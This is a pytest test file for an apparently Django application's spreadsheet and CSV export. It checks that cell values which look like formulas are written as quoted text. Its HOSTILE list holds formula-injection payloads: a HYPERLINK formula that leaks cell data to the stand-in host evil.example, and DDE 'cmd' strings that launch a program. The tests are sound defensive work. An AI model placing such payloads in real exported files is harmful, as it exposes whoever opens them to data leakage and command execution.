"""Exports cannot attack the reader: text that looks like a formula stays text."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from sanshi.console.tests import helpers as h
from sanshi.core.spreadsheet import append_row, csv_cell
from sanshi.orgs.models import Org
from sanshi.testing import World

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_risky_string_is_written_as_a_text_cell_with_a_quote_prefix(value: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_row(ws, [value, "平常的话", 3])
    out = io.BytesIO()
    wb.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    cell = sheet.cell(1, 1)
    # XML reads a carriage return back as a line feed
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)
    assert (sheet.cell(1, 2).data_type, sheet.cell(1, 2).quotePrefix) == ("s", False)
    assert sheet.cell(1, 3).data_type == "n"
    xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_the_console_export_writes_a_residents_formula_as_text(world: World) -> None:
    concern = h.received(world, text=HOSTILE[0])
    response = h.logged_in(world.dispatcher).get("/console/search/export.xlsx?category=")
    assert response.status_code == 200
    content = response.content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 1
    assert rows[0][0].value == concern.tracking_code
    text_cell = rows[0][12]
    assert (text_cell.value, text_cell.data_type, text_cell.quotePrefix) == (HOSTILE[0], "s", True)
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_the_stats_csv_prefixes_a_risky_value_with_an_apostrophe(world: World, capsys) -> None:
    Org.objects.filter(pk=world.community.pk).update(name="=HYPERLINK(1)")
    for _ in range(5):
        world.concern(subcategory="children.childcare", org=world.community)
    call_command(
        "stats_export",
        "--org",
        world.county.name,
        "--from",
        "2000-01-01",
        "--to",
        "2100-01-01",
        "--by",
        "org",
    )
    assert capsys.readouterr().out.splitlines() == ["org,count", "'=HYPERLINK(1),5"]


def test_csv_cell_leaves_ordinary_values_alone() -> None:
    assert [csv_cell(v) for v in ("北海", 5, "-3", "a=b")] == ["北海", 5, "'-3", "a=b"]
